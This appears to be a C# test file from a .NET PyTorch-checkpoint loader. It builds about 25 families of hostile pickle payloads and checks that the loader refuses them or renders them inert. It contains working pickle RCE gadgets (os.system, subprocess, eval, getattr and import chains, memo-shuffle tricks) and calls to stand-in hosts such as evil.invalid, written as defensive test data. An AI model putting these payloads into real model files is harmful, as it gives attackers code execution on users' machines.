using System.Text;
using TorchLoad.Core;
using TorchLoad.Core.Errors;
using TorchLoad.Core.Pickle;
using TorchLoad.Core.Tensors;
using static TorchLoad.Core.Errors.TorchLoadErrorReason;
using static TorchLoad.Tests.Hostile.HostileAssert;

namespace TorchLoad.Tests.Hostile;

/// <summary>
/// The 44 attack patterns of docs/peers.md section 6, as hand-assembled hostile files. Every load
/// runs in a sandbox folder whose marker file the payload tries to create; each load must end in
/// under 10 s, throw nothing but <see cref="TorchLoadException"/>, and leave no marker. Safe mode
/// (weights_only) must refuse with the specific reason; permissive mode must give inert objects
/// or a typed error, never run anything.
/// </summary>
public sealed class HostilePatternTests
{
    /// <summary>How a hostile pickle reaches the loader.</summary>
    public enum Container
    {
        /// <summary>data.pkl of a well-formed torch.save zip.</summary>
        Zip,
        /// <summary>The pickle is the whole file (torch.load reads it as the legacy magic-number pickle).</summary>
        RawPickle,
        /// <summary>The object pickle of a valid legacy stream (magic, version, sys_info, object, keys).</summary>
        Legacy,
    }

    private static byte[] Wrap(Container container, byte[] pickle) => container switch
    {
        Container.Zip => HostileZip.Checkpoint(pickle).ToArray(),
        Container.RawPickle => pickle,
        Container.Legacy => HostileLegacy.WithObject(pickle),
        _ => throw new ArgumentOutOfRangeException(nameof(container)),
    };

    private static string Py3Module(string module) => module == "__builtin__" ? "builtins" : module;

    private static readonly CallStyle[] AllStyles = Enum.GetValues<CallStyle>();

    /// <summary>
    /// Cases for one pattern's gadgets: each gadget as GLOBAL in a zip, as STACK_GLOBAL in a raw
    /// pickle and, round robin, in another opcode family inside a legacy stream; the first gadget
    /// also in every opcode family inside a zip.
    /// </summary>
    private static TheoryData<string, string, string[], CallStyle, Container> Gadgets(params (string Module, string Name, string[] Args)[] gadgets)
    {
        var data = new TheoryData<string, string, string[], CallStyle, Container>();
        for (var i = 0; i < gadgets.Length; i++)
        {
            var (m, n, a) = gadgets[i];
            data.Add(m, n, a, CallStyle.Global, Container.Zip);
            data.Add(m, n, a, CallStyle.StackGlobal, Container.RawPickle);
            data.Add(m, n, a, AllStyles[(i + 2) % AllStyles.Length], Container.Legacy);
            if (i == 0)
                foreach (var s in AllStyles.Where(s => s != CallStyle.Global)) data.Add(m, n, a, s, Container.Zip);
        }
        return data;
    }

    /// <summary>Safe mode: UnsafeGlobal naming the gadget. Permissive: an inert PyObject of it (or NotACheckpoint for a raw pickle).</summary>
    /// <summary>Permissive mode, a call of what an inert call returned: recorded as an inert object whose Callee is that earlier record.</summary>
    private static void InertCallOf(LoadOutcome outcome, string calleeClass)
    {
        var root = Assert.IsType<PyObject>(outcome.Root);
        Assert.Equal("call", root.ConstructedBy);
        Assert.NotNull(root.Callee);
        Assert.Equal(calleeClass, root.ClassName);
        Assert.Equal(calleeClass, root.Callee!.ClassName);
    }

    private static void GadgetIsRefusedAndInert(string module, string name, string[] args, CallStyle style, Container container)
    {
        using var box = new HostileSandbox();
        var payload = args.Select(box.Expand).ToArray();
        var file = Wrap(container, HostilePickle.CallPickle(style, module, name, payload));
        var expected = $"{Py3Module(module)}.{name}";

        var safe = box.Load(file, weightsOnly: true);
        var e = Refused(safe, UnsafeGlobal, expected);
        Assert.Contains(expected, e.Message);

        var permissive = box.Load(file, weightsOnly: false);
        if (container == Container.RawPickle)
        {
            // the "magic number" is an inert object, not the magic: not a checkpoint, nothing ran
            Refused(permissive, NotACheckpoint);
            return;
        }
        var obj = InertRoot(permissive, expected);
        Assert.Equal(style is CallStyle.Inst or CallStyle.Obj or CallStyle.NewObj or CallStyle.NewObjEx ? "new" : "call", obj.ConstructedBy);
        Assert.Equal(payload, obj.Args.Select(a => Assert.IsType<string>(a)).ToArray());
        if (style == CallStyle.NewObjEx) Assert.Equal(true, obj.KwArgs!["shell"]);
        Assert.Contains(expected, permissive.Checkpoint!.Globals);
    }

    private static byte[] OsSystem(HostileSandbox box) => HostilePickle.Call("os", "system", box.Touch);

    private static byte[] ZipWith(byte[] dataPkl, Action<HostileZip.Entry>? tweakPickle = null, params (string Key, byte[] Bytes)[] storages)
    {
        var z = new HostileZip();
        var pkl = z.Add("archive/data.pkl", dataPkl);
        tweakPickle?.Invoke(pkl);
        z.Add("archive/byteorder", "little");
        foreach (var (key, bytes) in storages) z.Add($"archive/data/{key}", bytes);
        z.Add("archive/version", "3\n");
        return z.ToArray();
    }

    private static void AssertBenignRoot(LoadOutcome o)
    {
        var d = Assert.IsType<PyDict>(o.Root);
        Assert.Equal(1L, d["ok"]);
    }

    // =====================================================================================
    // Direct code execution / classic gadgets (1-12)
    // =====================================================================================

    public static TheoryData<string, string, string[], CallStyle, Container> P01Cases => Gadgets(
        ("builtins", "eval", ["{py}"]),
        ("builtins", "exec", ["{py}"]),
        ("builtins", "compile", ["{py}", "<payload>", "exec"]),
        ("__builtin__", "eval", ["{py}"]),
        ("__builtin__", "exec", ["{py}"]),
        ("__builtin__", "execfile", ["{marker}"]));

    [Theory, MemberData(nameof(P01Cases))]
    public void P01_ReduceOnBuiltinsEvalExecCompileRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P02Cases => Gadgets(
        ("os", "system", ["{touch}"]),
        ("posix", "system", ["{touch}"]),
        ("nt", "system", ["{touch}"]),
        ("os", "popen", ["{touch}"]),
        ("posix", "execv", ["/bin/sh", "{touch}"]));

    [Theory, MemberData(nameof(P02Cases))]
    public void P02_ReduceOnOsSystemPosixNtRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    [Theory]
    [InlineData("os"), InlineData("posix"), InlineData("nt"), InlineData("sys")]
    public void P02_BlockedModuleMessageSaysItCanNeverBeAllowed(string module)
    {
        using var box = new HostileSandbox();
        var e = Refused(box.Load(Wrap(Container.Zip, HostilePickle.Call(module, "system", box.Touch)), true), UnsafeGlobal, $"{module}.system");
        Assert.Contains("blocked", e.Message);
    }

    public static TheoryData<string, string, string[], CallStyle, Container> P03Cases => Gadgets(
        ("subprocess", "Popen", ["sh", "-c", "{touch}"]),
        ("subprocess", "run", ["{touch}"]),
        ("subprocess", "check_output", ["{touch}"]),
        ("subprocess", "getoutput", ["{touch}"]),
        ("pty", "spawn", ["{touch}"]),
        ("runpy", "_run_code", ["{py}", "{}"]),
        ("runpy", "run_path", ["{marker}"]),
        ("pip", "main", ["install", "--index-url", "http://evil.invalid/", "evil"]),
        ("pip._internal", "main", ["install", "evil"]),
        ("venv", "create", ["{marker}"]));

    [Theory, MemberData(nameof(P03Cases))]
    public void P03_SubprocessPtyRunpyPipVenvRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P04Cases => Gadgets(
        ("builtins", "__import__", ["os"]),
        ("builtins", "getattr", ["os", "system"]),
        ("importlib", "import_module", ["os"]));

    [Theory, MemberData(nameof(P04Cases))]
    public void P04_ImportAndGetattrGadgetsRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    /// <summary>getattr(__import__('os'), 'system')(cmd): the chain's first global is refused; permissive mode cannot call a call's result.</summary>
    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void P04_ImportGetattrChainToOsSystemRefused(bool importFirst)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(4);
        if (importFirst)
        {
            // m = __import__('os') memoized first, then getattr(m, 'system')(cmd)
            p.Str("builtins").Str("__import__").StackGlobal().Str("os").Tuple1().Reduce().Memoize().Pop()
             .Str("builtins").Str("getattr").StackGlobal().BinGet(0).Str("system").Tuple2().Reduce();
        }
        else
        {
            p.Global("builtins", "getattr").Global("builtins", "__import__").Str("os").Tuple1().Reduce().Str("system").Tuple2().Reduce();
        }
        var pkl = p.Str(box.Touch).Tuple1().Reduce().Stop().ToArray();
        var file = Wrap(Container.Zip, pkl);
        Refused(box.Load(file, true), UnsafeGlobal, importFirst ? "builtins.__import__" : "builtins.getattr");
        // permissive: getattr(...) is an inert object; calling it only records the call (never runs it)
        InertCallOf(box.Load(file, false), "builtins.getattr");
    }

    public static TheoryData<string, string, string[], CallStyle, Container> P05Cases => Gadgets(
        ("operator", "attrgetter", ["system"]),
        ("operator", "methodcaller", ["system", "{touch}"]),
        ("operator", "itemgetter", ["system"]),
        ("_operator", "attrgetter", ["system"]),
        ("_operator", "methodcaller", ["system", "{touch}"]));

    [Theory, MemberData(nameof(P05Cases))]
    public void P05_OperatorAttrgetterMethodcallerItemgetterRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    /// <summary>operator.methodcaller('system', cmd)(importlib.import_module('os')).</summary>
    [Fact]
    public void P05_MethodcallerOnImportedModuleChainRefused()
    {
        using var box = new HostileSandbox();
        var pkl = new HostilePickle().Proto(2)
            .Global("operator", "methodcaller").Str("system").Str(box.Touch).Tuple2().Reduce()
            .Global("importlib", "import_module").Str("os").Tuple1().Reduce().Tuple1().Reduce().Stop().ToArray();
        var file = Wrap(Container.Zip, pkl);
        Refused(box.Load(file, true), UnsafeGlobal, "operator.methodcaller");
        InertCallOf(box.Load(file, false), "operator.methodcaller");
    }

    public static TheoryData<string, string, string[], CallStyle, Container> P06Cases => Gadgets(
        ("pydoc", "locate", ["os.system"]),
        ("pkgutil", "resolve_name", ["os:system"]),
        ("importlib", "__import__", ["os"]));

    [Theory, MemberData(nameof(P06Cases))]
    public void P06_PydocLocatePkgutilResolveNameRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    /// <summary>functools.partial(torch.load, other_file, weights_only=False)() aimed at a second, malicious checkpoint.</summary>
    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void P07_FunctoolsPartialNestedTorchLoadRefused(bool callIt)
    {
        using var box = new HostileSandbox();
        var inner = box.Write("other.pt", Wrap(Container.Zip, OsSystem(box)));
        var p = new HostilePickle().Proto(4)
            .Global("functools", "partial").Global("torch", "load").Str(inner).Tuple2()
            .EmptyDict().Str("weights_only").False().SetItem().NewObjEx();
        if (callIt) p.EmptyTuple().Reduce();
        var file = Wrap(Container.Zip, p.Stop().ToArray());

        Refused(box.Load(file, true), UnsafeGlobal, "functools.partial");
        // even with functools.partial allowed by the user, torch.load is not
        Refused(box.Load(file, true, tweak: o => o with { SafeGlobals = ["functools.partial"] }), UnsafeGlobal, "torch.load");

        var permissive = box.Load(file, false);
        if (callIt)
        {
            InertCallOf(permissive, "functools.partial");
            return;
        }
        var partial = InertRoot(permissive, "functools.partial");
        Assert.Equal("torch.load", Assert.IsType<PyGlobal>(partial.Args[0]).ClassName);
        Assert.Equal(inner, partial.Args[1]);
        Assert.Equal(false, partial.KwArgs!["weights_only"]);
    }

    public static TheoryData<string, string, string[], CallStyle, Container> P08Cases => Gadgets(
        ("pickle", "loads", ["cos\nsystem\n(S'x'\ntR."]),
        ("_pickle", "loads", ["x"]),
        ("pickle", "load", ["{marker}"]),
        ("marshal", "loads", ["x"]),
        ("dill", "loads", ["x"]),
        ("torch.serialization", "load", ["{marker}"]),
        ("torch", "load", ["{marker}"]),
        ("numpy", "load", ["{marker}"]),
        ("torch.utils._config_module", "ConfigModule.load_config", ["x"]),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pickle", "x"]));

    [Theory, MemberData(nameof(P08Cases))]
    public void P08_NestedDeserialisersRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    /// <summary>pickle.loads(b'...os.system...'): the nested pickle stays bytes; it is never unpickled.</summary>
    [Theory]
    [InlineData("pickle", "loads")]
    [InlineData("_pickle", "loads")]
    [InlineData("marshal", "loads")]
    [InlineData("torch.serialization", "_load")]
    public void P08_NestedPickleBytesNeverUnpickled(string module, string name)
    {
        using var box = new HostileSandbox();
        var nested = OsSystem(box);
        var file = Wrap(Container.Zip, new HostilePickle().Proto(3).Global(module, name).Bytes(nested).Tuple1().Reduce().Stop().ToArray());
        Refused(box.Load(file, true), UnsafeGlobal, $"{module}.{name}");
        var permissive = box.Load(file, false);
        var obj = InertRoot(permissive, $"{module}.{name}");
        Assert.Equal(nested, Assert.IsType<byte[]>(obj.Args[0]));
        Assert.DoesNotContain("os.system", permissive.Checkpoint!.Globals);
    }

    public static TheoryData<string, string, string[], CallStyle, Container> P09Cases => Gadgets(
        ("types", "CodeType", ["0", "0", "0", "0", "0", "0", "d\u0000S\u0000", "{py}"]),
        ("types", "FunctionType", ["code", "globals"]),
        ("cloudpickle.cloudpickle", "_make_function", ["code", "globals", "name"]),
        ("cloudpickle.cloudpickle", "_builtin_type", ["CodeType"]),
        ("cloudpickle.cloudpickle_fast", "_function_setstate", ["f", "state"]));

    [Theory, MemberData(nameof(P09Cases))]
    public void P09_CodeTypeAndCloudpickleFunctionBuildersRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P10Cases => Gadgets(
        ("_io", "FileIO", ["{marker}", "w"]),
        ("io", "FileIO", ["{marker}", "w"]),
        ("builtins", "open", ["{marker}", "w"]),
        ("ctypes", "CDLL", ["libc.so.6"]),
        ("logging", "FileHandler", ["{marker}"]),
        ("distutils.file_util", "write_file", ["{marker}", "pwned"]),
        ("shutil", "copyfile", ["/etc/hostname", "{marker}"]));

    [Theory, MemberData(nameof(P10Cases))]
    public void P10_CtypesFileIoLoggingWriteFileRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P11Cases => Gadgets(
        ("webbrowser", "open", ["http://evil.invalid/{marker}"]),
        ("socket", "create_connection", ["evil.invalid:443"]),
        ("http.client", "HTTPSConnection", ["evil.invalid"]),
        ("requests", "get", ["http://evil.invalid/"]),
        ("requests.api", "post", ["http://evil.invalid/"]),
        ("aiohttp", "ClientSession", []),
        ("urllib.request", "urlopen", ["http://evil.invalid/"]),
        ("ssl", "get_server_certificate", ["exfil.evil.invalid"]));

    [Theory, MemberData(nameof(P11Cases))]
    public void P11_NetworkSideEffectGadgetsRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P12Cases => Gadgets(
        ("sys", "exit", ["0"]),
        ("builtins", "exit", ["0"]),
        ("os", "_exit", ["0"]),
        ("os", "kill", ["1", "9"]));

    [Theory, MemberData(nameof(P12Cases))]
    public void P12_SysExitDenialOfServiceRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    // =====================================================================================
    // Gadgets inside "trusted" packages (13-17)
    // =====================================================================================

    public static TheoryData<string, string, string[], CallStyle, Container> P13Cases => Gadgets(
        ("torch.utils.collect_env", "run", ["{touch}"]),
        ("torch.utils.collect_env", "run_and_read_all", ["run", "{touch}"]),
        ("torch._inductor.codecache", "compile_file", ["x.c", "{marker}", "{touch}"]),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", ["{py}"]),
        ("torch._dynamo.guards", "GuardBuilder.get", ["{py}"]),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ["{py}"]),
        ("torch.utils.bottleneck.__main__", "run_cprofile", ["{py}", "{}"]),
        ("torch.utils.bottleneck.__main__", "run_autograd_prof", ["{py}", "{}"]),
        ("torch.serialization", "_get_restore_location", ["{py}"]));

    [Theory, MemberData(nameof(P13Cases))]
    public void P13_TorchInternalGadgetsRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P14Cases => Gadgets(
        ("numpy.f2py.crackfortran", "getlincoef", ["{py}", "{}"]),
        ("numpy.testing._private.utils", "runstring", ["{py}", "{}"]),
        ("numpy.core.multiarray", "_reconstruct", ["x"]));

    [Theory, MemberData(nameof(P14Cases))]
    public void P14_NumpyEvalExecGadgetsRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P15Cases => Gadgets(
        ("timeit", "timeit", ["{py}"]),
        ("cProfile", "run", ["{py}"]),
        ("cProfile", "runctx", ["{py}", "{}", "{}"]),
        ("profile", "run", ["{py}"]),
        ("trace", "Trace.run", ["{py}"]),
        ("trace", "Trace.runctx", ["{py}"]),
        ("bdb", "Bdb.run", ["{py}"]),
        ("doctest", "debug_script", ["{py}"]),
        ("code", "InteractiveInterpreter.runcode", ["{py}"]),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", ["{py}"]),
        ("idlelib.calltip", "get_entity", ["{py}"]),
        ("idlelib.run", "Executive.runcode", ["{py}"]),
        ("lib2to3.pgen2.grammar", "Grammar.loads", ["x"]),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", ["{py}"]),
        ("ensurepip", "_run_pip", ["install", "evil"]));

    [Theory, MemberData(nameof(P15Cases))]
    public void P15_StdlibHelpersThatExecStringsRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P16Cases => Gadgets(
        ("uuid", "_get_command_stdout", ["sh", "-c", "{touch}"]),
        ("_osx_support", "_read_output", ["{touch}"]),
        ("_aix_support", "_read_cmd_output", ["{touch}"]),
        ("imaplib", "IMAP4_stream", ["{touch}"]),
        ("_pyrepl.pager", "pipe_pager", ["x", "{touch}"]),
        ("test.support.script_helper", "assert_python_ok", ["-c", "{py}"]),
        ("multiprocessing.util", "spawnv_passfds", ["/bin/sh", "{touch}"]),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", ["{touch}"]),
        ("_interpreters", "create", []),
        ("os.path", "join", ["a", "b"]));

    [Theory, MemberData(nameof(P16Cases))]
    public void P16_PrivateShellOutHelpersRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    public static TheoryData<string, string, string[], CallStyle, Container> P17Cases => Gadgets(
        ("mlflow.projects.backend.local", "_run_entry_point", ["{touch}", "/", "{}"]),
        ("pandas.io.parsers.readers", "read_csv", ["http://evil.invalid/x.csv"]),
        ("pandas", "read_pickle", ["{marker}"]),
        ("transformers", "AutoModel.from_pretrained", ["evil/model"]));

    [Theory, MemberData(nameof(P17Cases))]
    public void P17_ThirdPartyHubGadgetsRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);

    // =====================================================================================
    // Name-resolution tricks (18-25)
    // =====================================================================================

    /// <summary>STACK_GLOBAL operands fetched from the memo after PUT/POP shuffles (picklescan#22 CTF).</summary>
    [Theory]
    [InlineData("binput"), InlineData("long_binput"), InlineData("memoize"), InlineData("text_put")]
    public void P18_StackGlobalOperandsFromMemoShufflesRefused(string memo)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(4);
        void PutAt(uint i)
        {
            switch (memo)
            {
                case "binput": p.BinPut((byte)i); break;
                case "long_binput": p.LongBinPut(i + 1000); break;
                case "memoize": p.Memoize(); break;
                default: p.Put(i); break;
            }
        }
        void GetAt(uint i)
        {
            switch (memo)
            {
                case "binput":
                case "memoize": p.BinGet((byte)i); break;
                case "long_binput": p.LongBinGet(i + 1000); break;
                default: p.Get(i); break;
            }
        }
        // memo: 0 = 'system', 1 = 'harmless', 2 = 'os' ; then GET 2, GET 0, STACK_GLOBAL
        p.Str("system"); PutAt(0); p.Pop();
        p.Str("harmless"); PutAt(1); p.Pop();
        p.Str("os"); PutAt(2); p.Pop();
        GetAt(2); GetAt(0);
        var pkl = p.StackGlobal().Str(box.Touch).Tuple1().Reduce().Stop().ToArray();
        foreach (var container in new[] { Container.Zip, Container.RawPickle })
        {
            var file = Wrap(container, pkl);
            Refused(box.Load(file, true), UnsafeGlobal, "os.system");
            var permissive = box.Load(file, false);
            if (container == Container.Zip) InertRoot(permissive, "os.system");
            else Refused(permissive, NotACheckpoint);
        }
    }

    /// <summary>STACK_GLOBAL on a memo slot that does not exist, or on an int from the memo (type confusion).</summary>
    [Theory]
    [InlineData("missing_slot")]
    [InlineData("int_module")]
    [InlineData("none_name")]
    [InlineData("bytes_operands")]
    public void P19_StackGlobalBadMemoOrNonStringOperandsRefused(string variant)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(4);
        switch (variant)
        {
            case "missing_slot": p.Str("os").Memoize().Pop().BinGet(0).BinGet(7); break;
            case "int_module": p.Int(5).Memoize().Pop().Str("system").Memoize().Pop().BinGet(0).BinGet(1); break;
            case "none_name": p.Str("os").None(); break;
            default: p.Bytes("os"u8.ToArray()).Bytes("system"u8.ToArray()); break;
        }
        var file = Wrap(Container.Zip, p.StackGlobal().Str(box.Touch).Tuple1().Reduce().Stop().ToArray());
        Refused(box.Load(file, true), MalformedPickle);
        Refused(box.Load(file, false), MalformedPickle);
    }

    /// <summary>picklescan type-confusion-exploit: os.system REDUCE first, then STACK_GLOBAL with an int operand.</summary>
    [Fact]
    public void P19_TypeConfusionAfterDangerousReduceRefused()
    {
        using var box = new HostileSandbox();
        var pkl = new HostilePickle().Proto(4)
            .Global("os", "system").Str(box.Touch).Tuple1().Reduce().Pop()
            .Int(1).Memoize().Pop().Str("x").BinGet(0).StackGlobal().Stop().ToArray();
        var file = Wrap(Container.Zip, pkl);
        Refused(box.Load(file, true), UnsafeGlobal, "os.system");
        Refused(box.Load(file, false), MalformedPickle);
        Refused(box.Load(pkl, true, "type-confusion-exploit.pkl"), UnsafeGlobal, "os.system");
    }

    /// <summary>STACK_GLOBAL operands pushed with protocol 0 STRING / BINSTRING (GHSA-9gvj-pp9x-gcfr).</summary>
    [Theory]
    [InlineData("STRING"), InlineData("SHORT_BINSTRING"), InlineData("UNICODE")]
    public void P20_StackGlobalWithOldStringOperandsRefused(string opcode)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle();
        switch (opcode)
        {
            case "STRING": p.String0("os").String0("system"); break;
            case "SHORT_BINSTRING": p.ShortBinString("os").ShortBinString("system"); break;
            default: p.Unicode0("os").Unicode0("system"); break;
        }
        var pkl = p.StackGlobal().Mark().String0(box.Touch).Tuple().Reduce().Stop().ToArray();
        foreach (var container in new[] { Container.Zip, Container.RawPickle, Container.Legacy })
        {
            var file = Wrap(container, pkl);
            Refused(box.Load(file, true), UnsafeGlobal, "os.system");
            var permissive = box.Load(file, false);
            if (container == Container.RawPickle) Refused(permissive, NotACheckpoint);
            else InertRoot(permissive, "os.system");
        }
        // encoding='bytes' turns the Python 2 strs into bytes: STACK_GLOBAL needs str, so it is malformed
        if (opcode != "UNICODE")
            Refused(box.Load(Wrap(Container.Zip, pkl), true, tweak: o => o with { Encoding = PickleStringEncoding.Bytes }), MalformedPickle);
    }

    /// <summary>Dotted names (module 'pathlib', name 'os.system') and dunder names on allowed modules resolve by exact string only.</summary>
    [Theory]
    [InlineData("pathlib", "os.system", "pathlib.os.system")]
    [InlineData("collections", "os.system", "collections.os.system")]
    [InlineData("torch", "os.system", "torch.os.system")]
    [InlineData("torch._utils", "os.system", "torch._utils.os.system")]
    [InlineData("numpy", "__builtins__", "numpy.__builtins__")]
    [InlineData("torch", "__builtins__", "torch.__builtins__")]
    [InlineData("collections", "OrderedDict.__init__.__globals__", "collections.OrderedDict.__init__.__globals__")]
    [InlineData("torch._utils", "_rebuild_tensor_v2.__globals__", "torch._utils._rebuild_tensor_v2.__globals__")]
    [InlineData("builtins", "set.__class__", "builtins.set.__class__")]
    [InlineData("torch.nn.parameter", "Parameter.__reduce_ex__", "torch.nn.parameter.Parameter.__reduce_ex__")]
    public void P21_DottedAndDunderGlobalNamesRefused(string module, string name, string full)
    {
        using var box = new HostileSandbox();
        var file = Wrap(Container.Zip, HostilePickle.Call(module, name, box.Touch));
        Refused(box.Load(file, true), UnsafeGlobal, full);
        InertRoot(box.Load(file, false), full);
    }

    /// <summary>numpy.__builtins__ / an allowlisted function, then BUILD on it to smuggle eval (modelscan#330).</summary>
    [Theory]
    [InlineData("numpy", "__builtins__", true)]
    [InlineData("torch._utils", "_rebuild_tensor_v2", false)]
    [InlineData("collections", "OrderedDict", false)]
    [InlineData("builtins", "set", false)]
    public void P21_BuildOnFunctionOrModuleToSmuggleEvalRefused(string module, string name, bool unsafeGlobal)
    {
        using var box = new HostileSandbox();
        var pkl = new HostilePickle().Proto(2).Global(module, name)
            .EmptyDict().Str("__globals__").EmptyDict().Str("eval").Global("builtins", "eval").SetItem().SetItem()
            .Build().Stop().ToArray();
        var file = Wrap(Container.Zip, pkl);
        if (unsafeGlobal) Refused(box.Load(file, true), UnsafeGlobal, $"{module}.{name}");
        else Refused(box.Load(file, true), UnsafeGlobal, "builtins.eval");
        // without the eval global: BUILD on a class or function is refused by itself
        var pkl2 = new HostilePickle().Proto(2).Global(module, name).EmptyDict().Str("__code__").Str(box.PyOpen).SetItem().Build().Stop().ToArray();
        var file2 = Wrap(Container.Zip, pkl2);
        if (unsafeGlobal) Refused(box.Load(file2, true), UnsafeGlobal, $"{module}.{name}");
        else Refused(box.Load(file2, true), MalformedPickle);
        Refused(box.Load(file2, false), MalformedPickle);
    }

    /// <summary>torch.LongStorage is resolved from memo slots that are then overwritten so the resolved global is os.system.</summary>
    [Theory]
    [InlineData(false), InlineData(true)]
    public void P22_SafeLookingPrefixReplacedViaMemoRefused(bool viaGlobalObject)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle().Proto(4);
        if (!viaGlobalObject)
        {
            p.Str("torch").BinPut(0).Str("LongStorage").BinPut(1).StackGlobal().Pop()  // passes the allowlist
             .Str("os").BinPut(0).Pop().Str("system").BinPut(1).Pop()                // overwrite both memo slots
             .BinGet(0).BinGet(1).StackGlobal();
        }
        else
        {
            p.Global("torch", "LongStorage").BinPut(0).Pop()
             .Global("os", "system").BinPut(0).Pop()
             .BinGet(0);
        }
        var file = Wrap(Container.Zip, p.Str(box.Touch).Tuple1().Reduce().Stop().ToArray());
        Refused(box.Load(file, true), UnsafeGlobal, "os.system");
        var permissive = box.Load(file, false);
        InertRoot(permissive, "os.system");
        Assert.Equal(new[] { "torch.LongStorage", "os.system" }, permissive.Checkpoint!.Globals.ToArray());
    }

    /// <summary>INST and OBJ instead of REDUCE, including OBJ whose result is discarded by POP (GHSA-mxhj-88fx-4pcv).</summary>
    [Theory]
    [InlineData("INST", false), InlineData("INST", true), InlineData("OBJ", false), InlineData("OBJ", true)]
    public void P23_InstAndObjInsteadOfReduceRefused(string opcode, bool discarded)
    {
        using var box = new HostileSandbox();
        var p = new HostilePickle();
        if (opcode == "INST") p.Mark().String0(box.Touch).Inst("os", "system");
        else p.Proto(1).Mark().Global("os", "system").Str(box.Touch).Obj();
        if (discarded) p.Pop().None();
        var pkl = p.Stop().ToArray();
        foreach (var container in new[] { Container.Zip, Container.RawPickle, Container.Legacy })
        {
            var file = Wrap(container, pkl);
            Refused(box.Load(file, true), UnsafeGlobal, "os.system");
            var permissive = box.Load(file, false);
            if (container == Container.RawPickle) { Refused(permissive, NotACheckpoint); continue; }
            if (discarded)
            {
                Assert.Null(permissive.Root);
                Assert.Contains("os.system", permissive.Checkpoint!.Globals); // still reported for audit
            }
            else Assert.Equal("new", InertRoot(permissive, "os.system").ConstructedBy);
        }
    }

    /// <summary>Protocol 0 text pickles in the "Sour Pickles" style: globals(), compile + eval, apply, getattr chains.</summary>
    [Theory]
    [InlineData("globals", "builtins.globals", "builtins.globals")]
    [InlineData("compile_eval", "builtins.eval", "builtins.eval")]
    [InlineData("apply", "builtins.apply", "builtins.apply")]
    [InlineData("getattr_chain", "builtins.getattr", null)]
    [InlineData("reduce_py2", "functools.reduce", "functools.reduce")]
    public void P24_Protocol0SourPicklesRefused(string variant, string firstGlobal, string? permissiveRoot)
    {
        using var box = new HostileSandbox();
        var py = box.PyOpen.Replace("'", "\\'");
        var text = variant switch
        {
            "globals" => "c__builtin__\nglobals\n(tRp0\n.",
            "compile_eval" => $"c__builtin__\neval\n(c__builtin__\ncompile\n(S'{py}'\nS'<s>'\nS'exec'\ntRtR.",
            "apply" => $"c__builtin__\napply\n(c__builtin__\nexecfile\n(S'{box.Marker}'\nttR.",
            "getattr_chain" => $"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(S'os'\ntRS'system'\ntRp0\n0g0\n(S'{box.Touch}'\ntR.",
            _ => $"c__builtin__\nreduce\n(c__builtin__\neval\n(S'{py}'\nttR.",
        };
        var pkl = Encoding.Latin1.GetBytes(text);
        foreach (var container in new[] { Container.Zip, Container.RawPickle, Container.Legacy })
        {
            var file = Wrap(container, pkl);
            Refused(box.Load(file, true), UnsafeGlobal, firstGlobal);
            var permissive = box.Load(file, false);
            if (container == Container.RawPickle) Refused(permissive, NotACheckpoint);
            else if (permissiveRoot is null) InertCallOf(permissive, firstGlobal); // calling getattr's inert result is only recorded
            else InertRoot(permissive, permissiveRoot);
        }
    }

    public static TheoryData<string, string, string[], CallStyle, Container> P25Cases => Gadgets(
        ("fickling", "load", ["{marker}"]),
        ("fickling.hook", "deactivate_safe_ml_environment", []),
        ("picklescan.scanner", "scan_pickle_bytes", ["x"]),
        ("modelscan.modelscan", "ModelScan", []),
        ("modelscan.settings", "DEFAULT_SETTINGS.clear", []));

    [Theory, MemberData(nameof(P25Cases))]
    public void P25_PickleImportingAScannerRefused(string module, string name, string[] args, CallStyle style, Container container) =>
        GadgetIsRefusedAndInert(module, name, args, style, container);
